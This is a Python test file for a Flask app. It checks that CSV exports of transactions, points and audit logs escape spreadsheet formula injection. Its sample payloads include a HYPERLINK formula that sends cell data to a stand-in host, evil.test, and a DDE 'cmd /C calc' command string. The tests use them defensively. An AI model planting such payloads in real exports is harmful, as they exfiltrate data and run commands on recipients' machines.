"""Formulas in files for spreadsheets: no cell of any column begins one, whatever Talon.One or people wrote.

All texts, separators and odd spaces: `unit/exports/test_formats.py`. A card's number, a name of a file:
`exports/test_files.py`.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.integration.attacks.test_markup import Poison, poison, texts_only
from tests.support.desk import token_in
from webapp import exports
from webapp.audit import log
from webapp.audit.exporting import COLUMNS

__all__ = ["poison"]
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"x")'
FORMULAS = (FORMULA, "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", ";=1", "\uff1d1+1")
BEGINS = re.compile(r"[\s\x00-\x1f]*[=+\-@\uff1d\uff0b\uff20]")


def faults_of(data: bytes) -> list[str]:
    """Cells that a spreadsheet would run; numbers may be negative."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) > 1
    cells = [cell for row in rows for cell in row]
    cells += [part for cell in cells for part in cell.split(";")[1:]]
    return [one for one in cells if BEGINS.match(one) and not re.fullmatch(r"-?\d+(\.\d+)?", one)]


@pytest.mark.parametrize("listed", ["transactions", "points"])
def test_no_column_of_an_export(
    demo: Flask, people: dict[str, FlaskClient], shop: dict[str, Any], poison: Poison, listed: str
) -> None:
    browser = people["agent"]
    at = f"/aurora-eu/customers/{shop['stories']['everything']}/programs/1"
    poison.change = texts_only(*FORMULAS)
    offered = f"{at}/{listed}/export"
    started = browser.post(offered, data={"csrf_token": token_in(browser.get(offered))})
    assert started.status_code == 303, started.status_code
    with demo.app_context():
        exports.serve_all("attack")
    answer = browser.get(f"{started.location}/csv")
    assert answer.status_code == 200
    assert faults_of(answer.data) == []
    assert any(f"'{one}".encode() in answer.data for one in FORMULAS), "they were there"


def test_no_column_of_the_audits_file(demo: Flask, people: dict[str, FlaskClient]) -> None:
    with demo.app_context():
        for number, text in enumerate(FORMULAS):
            behalf = log.Behalf(900 + number, text, text[:40], "aurora-eu")
            log.done("notes.add", text[:20], text, {"x": text}, behalf=behalf)
            key = f"{number:08d}-0000-4000-8000-000000000000"
            log.attempt(key, "sessions.return", "session", text, reason=text, ticket=text, payload={})
    answer = people["supervisor"].get("/aurora-eu/audit/export/csv")
    assert answer.status_code == 200
    assert faults_of(answer.data) == []
    assert answer.data.startswith(("\ufeff" + COLUMNS[0]).encode())
    assert answer.data.count(b"HYPERLINK") >= 2


def test_the_test_sees_one() -> None:
    assert faults_of(b'a,b\r\n-1.5,"=1"\r\nx;+1,2') == ["=1", "+1"]
